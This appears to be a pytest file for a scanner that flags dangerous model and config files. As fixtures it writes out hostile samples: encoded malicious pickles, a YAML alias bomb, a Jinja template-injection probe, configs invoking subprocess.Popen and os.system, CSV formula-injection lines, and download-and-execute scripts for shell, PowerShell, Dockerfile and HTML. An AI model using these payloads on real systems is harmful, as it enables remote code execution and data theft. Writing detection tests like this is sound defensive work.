"""Texts that make more of themselves than they show: spelt pickles, growth, depth, names that are called."""

from __future__ import annotations

import base64
import json
import pickle
import zlib

import pytest

from moongate.scan.decoding import DEEPEST, parsed
from moongate.scan.engine import judge
from moongate.weights.ranged import Held
from support.pickled import EVIL
from support.scan_samples.documents import keras_zip, layer, model
from support.scan_samples.headers import gguf, safetensors, tensor


def verdict(text: str, name: str = "file") -> str:
    return judge(Held(text.encode()), name).verdict


SPELT = (
    base64.b64encode(EVIL).decode(),
    base64.urlsafe_b64encode(b"\x80\x04" + b"C\x03\xff\xef\xbe0" + EVIL[2:]).decode(),
    base64.b64encode(zlib.compress(EVIL)).decode(),
    EVIL.hex(),
)


@pytest.mark.parametrize("letters", SPELT)
def test_pickles_that_are_spelt_are_found(letters: str) -> None:
    assert verdict(json.dumps({"model": letters}), "model.json") == "suspicious"
    assert verdict(f"model: {letters}\n", "model.yaml") == "suspicious"
    assert verdict(f"import pickle\npickle.loads(f({letters!r}))\n", "x.py") == "dangerous"
    good = base64.b64encode(pickle.dumps({"a": [1, 2]})).decode()
    assert verdict(json.dumps({"model": good}), "model.json") == "clean"


def test_aliases_that_grow_are_dangerous() -> None:
    lines = ['a: &a ["x","x","x","x","x","x","x","x","x"]']
    lines += [
        f"{one}: &{one} [{','.join(['*' + before] * 9)}]"
        for before, one in zip("abcdefgh", "bcdefghi", strict=True)
    ]
    assert verdict("\n".join(lines), "x.yaml") == "dangerous"
    assert verdict("base: &b\n  x: 1\na:\n  <<: *b\nc:\n  <<: *b\n", "x.yaml") == "clean"


@pytest.mark.parametrize("opens", ["[", '{"a":'])
def test_json_is_read_however_deep_it_is(opens: str) -> None:
    closes = "]" if opens == "[" else "}"
    evil = json.dumps({"chat_template": "{{ x.__class__.__mro__ }}"})
    for depth in (1500, 20_000):
        assert verdict(opens * depth + evil + closes * depth, "config.json") == "dangerous"
        assert verdict(opens * depth + '{"a": [1, "x", {}, null]}' + closes * depth, "config.json") == "clean"
    assert verdict(opens * 2 * DEEPEST + "1" + closes * 2 * DEEPEST, "config.json") == "unscanned"


@pytest.mark.parametrize(
    "broken", ["[", "]", "[1", "[1,", "{1:2}", '{"a" 1}', '{"a":1', "[1]]", "[1} ", "[x]"]
)
def test_deep_texts_that_are_no_json_are_none(broken: str) -> None:
    with pytest.raises(ValueError):
        parsed("[" * 3000 + broken + "]" * 3000 if broken not in {"[", "]"} else "[" * 3000 + broken)


CALLED = (
    ("config.yaml", "model:\n  class_path: subprocess.Popen\n  init_args:\n    args: ['x']\n"),
    ("config.json", json.dumps({"model": {"class_path": "os.system"}})),
    ("logging.json", json.dumps({"handlers": {"x": {"()": "subprocess.Popen", "args": ["x"]}}})),
    ("modules.json", json.dumps([{"idx": 0, "name": "0", "path": "", "type": "subprocess.Popen"}])),
    ("x.csv", 'a,b\n=DDE("cmd";"/C calc";"x"),1\n'),
    ("x.csv", "a\n@SUM(1+1)*cmd|' /C calc'!A0\n"),
)
ASKED = (
    ("modules.json", json.dumps([{"idx": 0, "name": "0", "path": "", "type": "mine.Transformer"}])),
    ("config.json", json.dumps({"custom_pipelines": {"x": {"impl": "mine.Pipe", "pt": ["AutoModel"]}}})),
    ("tokenizer_config.json", json.dumps({"auto_map": ["x/y--tok.T", None]})),
    ("config.json", json.dumps({"auto_map": "x/y--tok.T"})),
    ("x.csv", 'a,b\n=WEBSERVICE("http://x.test/?"&A1),1\n'),
    ("docker-compose.yml", "services:\n  a:\n    image: x\n    privileged: true\n"),
    ("tasks.json", json.dumps({"tasks": [{"command": "x", "runOptions": {"runOn": "folderOpen"}}]})),
)
ORDINARY = (
    ("config.yaml", "model:\n  class_path: torch.optim.Adam\n"),
    ("x.csv", "a,b\n=1+2,-3\n+5,@x\n"),
    (
        "modules.json",
        json.dumps(
            [{"idx": 1, "name": "1", "path": "1_Pooling", "type": "sentence_transformers.models.Pooling"}]
        ),
    ),
)


@pytest.mark.parametrize(("name", "text"), CALLED)
def test_what_is_called_by_its_name_is_dangerous(name: str, text: str) -> None:
    assert verdict(text, name) == "dangerous"


@pytest.mark.parametrize(("name", "text"), ASKED)
def test_what_asks_for_code_is_for_review(name: str, text: str) -> None:
    assert verdict(text, name) == "suspicious"


@pytest.mark.parametrize(("name", "text"), ORDINARY)
def test_ordinary_ones_are_clean(name: str, text: str) -> None:
    assert verdict(text, name) == "clean"


def tensorflow(function: str) -> bytes:
    return keras_zip(model(layer("TFOpLambda", {"function": function})))


def test_operations_of_tensorflow_in_a_keras_model() -> None:
    for function in ("io.read_file", "raw_ops.WriteFile", "numpy_function", "compat.v1.py_func"):
        assert judge(Held(tensorflow(function)), "m.keras").verdict == "dangerous"
    assert judge(Held(tensorflow("math.add")), "m.keras").verdict == "clean"


FETCHED = (
    ("x.py", "import io, requests, torch\ntorch.load(io.BytesIO(requests.get('http://x.test').content))\n"),
    ("x.py", "import requests, yaml\nyaml.unsafe_load(requests.get('http://x.test').text)\n"),
    ("Dockerfile", "FROM python\nADD http://x.test/a.sh /a.sh\nRUN sh /a.sh\n"),
    ("run.sh", "wget http://x.test/start\nchmod +x start\n./start\n"),
    ("x.ps1", "Invoke-WebRequest http://x.test/a.exe -OutFile a.exe; Start-Process a.exe\n"),
    ("x.html", "<html><script>new ActiveXObject('WScript.Shell').Run('x')</script></html>"),
)


@pytest.mark.parametrize(("name", "text"), FETCHED)
def test_what_is_fetched_and_run_is_dangerous(name: str, text: str) -> None:
    assert verdict(text, name) == "dangerous"


def test_what_only_loads_or_fetches_is_not() -> None:
    assert verdict("import torch\ntorch.load('x.bin')\n", "x.py") == "clean"
    assert verdict("wget https://x.test/model.bin\npython app.py\n", "run.sh") == "clean"


def test_notes_of_headers_may_spell_a_pickle() -> None:
    spelt = SPELT[0]
    header = json.dumps({"__metadata__": {"x": spelt}, "a": tensor(0, 4)})
    assert judge(Held(safetensors(header, bytes(4))), "m.safetensors").verdict == "suspicious"
    assert judge(Held(gguf({"general.x": spelt})), "m.gguf").verdict == "suspicious"
